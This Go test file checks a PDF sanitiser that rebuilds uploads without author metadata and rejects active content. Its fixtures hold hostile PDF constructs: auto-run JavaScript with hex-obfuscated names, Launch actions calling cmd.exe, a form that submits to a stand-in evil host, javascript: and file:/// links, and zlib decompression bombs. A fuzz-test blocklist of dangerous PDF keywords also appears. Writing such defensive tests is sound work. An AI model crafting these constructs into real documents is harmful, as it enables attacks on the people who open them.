package paper_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"essaim/internal/platform/fault"
	"essaim/internal/platform/paper"
)

// pdf writes a file of objects, of which the first is the catalog, with a table of where each begins.
func pdf(trailer string, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	var table strings.Builder
	for i, o := range objects {
		fmt.Fprintf(&table, "%010d 00000 n \n", b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, table.String(), len(objects)+1, trailer, start)
	return b.Bytes()
}

const drawing = "BT /F1 24 Tf 72 700 Td (Rapport) Tj ET"

// leaf is a report of one page: what its catalog and its page have besides, and further objects from the sixth on.
func leaf(trailer, catalog, page string, more ...string) []byte {
	return pdf(trailer, append([]string{
		"<</Type/Catalog/Pages 2 0 R" + catalog + ">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>" + page + ">>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(drawing), drawing), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
	}, more...)...)
}

func renew(t testing.TB, raw []byte) (paper.Renewed, error) {
	t.Helper()
	return paper.NewInspector().Renew(t.Context(), "document", bytes.NewReader(raw), int64(len(raw)))
}

func TestAPDFIsMadeAnewWithoutItsAuthorOrWhatStandsAroundIt(t *testing.T) {
	raw := leaf("/Info 6 0 R/ID[<00><00>]", "/Metadata 7 0 R/OpenAction[3 0 R/Fit]", "/Annots[8 0 R]/PieceInfo<</Word(zqname)>>", "<</Author(zqauthor)/Creator(zqword)/Title(zqtitle)>>",
		"<</Type/Metadata/Subtype/XML/Length 8>>stream\n<zqxmp/>\nendstream", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/rapport)>>>>", "<</Zqorphan(never referred to)>>")
	raw = append(raw, "PK\x03\x04 zqzip <script>zqscript</script>"...)
	out, err := renew(t, raw)
	if err != nil {
		t.Fatal(err)
	}
	if out.Pages != 1 || !bytes.HasPrefix(out.Content, []byte("%PDF-")) || !bytes.Contains(out.Content, []byte(drawing)) || !bytes.Contains(out.Content, []byte("https://example.org/rapport")) {
		t.Errorf("%d pages:\n%s", out.Pages, out.Content)
	}
	if i := bytes.Index(bytes.ToLower(out.Content), []byte("zq")); i >= 0 {
		t.Errorf("it still says %.40q", out.Content[i:])
	}
	again, err := renew(t, out.Content)
	if err != nil || again.Pages != 1 {
		t.Errorf("what was made anew is not taken: %v", err)
	}
}

// nested is one array in another, so many times.
func nested(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }

// bomb is a stream of so many megabytes of nothing, of a kind.
func bomb(kind string, mb int) string {
	var packed bytes.Buffer
	w := zlib.NewWriter(&packed)
	for range mb {
		_, _ = w.Write(make([]byte, 1<<20)) // a buffer does not fail
	}
	_ = w.Close()
	return fmt.Sprintf("<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream", kind, packed.Len(), packed.String())
}

func TestAPDFThatCanActIsRefused(t *testing.T) {
	whole := leaf("", "", "")
	for name, c := range map[string]struct {
		raw  []byte
		want string
	}{
		"nothing": {nil, "paper.empty"}, "a picture": {[]byte("\xff\xd8\xff\xe0JFIF"), "paper.unknown"}, "a page of HTML": {[]byte("<html>%PDF-1.7"), "paper.unknown"},
		"a zip before it": {append([]byte("PK\x03\x04"), whole...), "paper.unknown"}, "the head alone": {[]byte("%PDF-1.7\n"), "paper.damaged"}, "half of it": {whole[:len(whole)/3], "paper.damaged"},
		"too heavy":                    {append(bytes.Clone(whole), make([]byte, paper.MaxUpload)...), "paper.heavy"},
		"a script at the door":         {leaf("", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>", ""), "paper.active"},
		"a name in hexadecimal":        {leaf("", "/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>", ""), "paper.active"},
		"a kind that stands elsewhere": {leaf("", "/OpenAction<</S 6 0 R/F(a)>>", "", "/Launch"), "paper.active"},
		"scripts by name":              {leaf("", "/Names<</JavaScript<</Names[(a)6 0 R]>>>>", "", "<</S/JavaScript/JS(x)>>"), "paper.active"},
		"a program":                    {leaf("", "/OpenAction 6 0 R", "", "<</Type/Action/S/Launch/F(cmd.exe)>>"), "paper.active"},
		"a program behind another act": {leaf("", "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(a)>>>>", ""), "paper.active"},
		"a file within":                {leaf("", "/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>", "", "<</Type/Filespec/F(a)>>"), "paper.active"},
		"a form that sends":            {leaf("", "", "/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]"), "paper.active"},
		"a form of XML":                {leaf("", "/AcroForm<</XFA(a)/Fields[]>>", ""), "paper.active"},
		"acts of a page":               {leaf("", "", "/AA<</O<</S/Named/N/Print>>>>"), "paper.active"},
		"a link to a script":           {leaf("", "", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert)>>>>]"), "paper.active"},
		"a link to a file":             {leaf("", "", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI<66696c653a2f2f2f>>>>>]"), "paper.active"},
		"a link elsewhere":             {leaf("", "", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI 6 0 R>>>>]", "(file:///etc)"), "paper.active"},
		"an attached file":             {leaf("", "", "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>]"), "paper.active"},
		"a film":                       {leaf("", "", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"), "paper.active"},
		"encrypted":                    {leaf("/Encrypt 6 0 R/ID[<00><00>]", "", "", "<</Filter/Standard/V 1/R 2/O<"+strings.Repeat("00", 32)+">/U<"+strings.Repeat("00", 32)+">/P -4>>"), "paper.encrypted"},
		"no pages":                     {pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"), "paper.damaged"},
		"pages within themselves":      {pdf("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"), "paper.damaged"},
		"deep":                         {leaf("", "/Zq "+nested(100_000), ""), "paper.damaged"},
	} {
		_, err := renew(t, c.raw)
		f, ok := errors.AsType[*fault.Fault](err)
		if !ok || len(f.Fields) != 1 || f.Fields[0].Key != c.want || f.Fields[0].Name != "document" {
			t.Errorf("%s: %v, not %s", name, err, c.want)
		}
	}
}

// TestABombIsNotUnpacked has streams of a gigabyte: on a page they are left packed, and among objects they are refused.
func TestABombIsNotUnpacked(t *testing.T) {
	if _, err := renew(t, leaf("", "", "", bomb("/Type/ObjStm/N 1/First 4", 100))); err != nil && !fault.Is(err, fault.Invalid) {
		t.Error(err)
	}
	if _, err := renew(t, leaf("", "/Zq 6 0 R", "", bomb("", 100))); err != nil && !fault.Is(err, fault.Invalid) {
		t.Error(err)
	}
}

func TestTheChildSaysWhatTheInspectorSays(t *testing.T) {
	for _, child := range [][]string{{"/bin/false"}, {"/bin/echo", "ok 1"}, {"/bin/echo", "no web.unavailable"}, {"/bin/cat"}} {
		raw := leaf("", "", "")
		_, err := paper.NewInspector(child...).Renew(t.Context(), "document", bytes.NewReader(raw), int64(len(raw)))
		if f, ok := errors.AsType[*fault.Fault](err); !ok || len(f.Fields) == 0 || f.Fields[0].Key != "paper.damaged" {
			t.Errorf("%q: %v", child, err)
		}
	}
	raw := leaf("", "", "")
	if _, err := paper.NewInspector("/nowhere/at-all").Renew(t.Context(), "document", bytes.NewReader(raw), int64(len(raw))); err == nil || fault.Is(err, fault.Invalid) {
		t.Errorf("a child that is not there: %v", err)
	}
}

func FuzzRenew(f *testing.F) {
	f.Add(leaf("", "", ""))
	f.Add(leaf("/Info 6 0 R", "/Names<</JavaScript 6 0 R>>", "", "<</S/JavaScript>>"))
	f.Add(leaf("", "", "", bomb("/Type/ObjStm/N 1/First 4", 1)))
	f.Fuzz(func(t *testing.T, raw []byte) {
		out, err := paper.NewInspector().Renew(context.Background(), "document", bytes.NewReader(raw), int64(len(raw)))
		if err != nil {
			if !fault.Is(err, fault.Invalid) {
				t.Fatal(err)
			}
			return
		}
		for _, word := range []string{"/JavaScript", "/Launch", "/EmbeddedFile", "/SubmitForm"} {
			if bytes.Contains(out.Content, []byte(word)) {
				t.Fatalf("%s is still in it", word)
			}
		}
	})
}
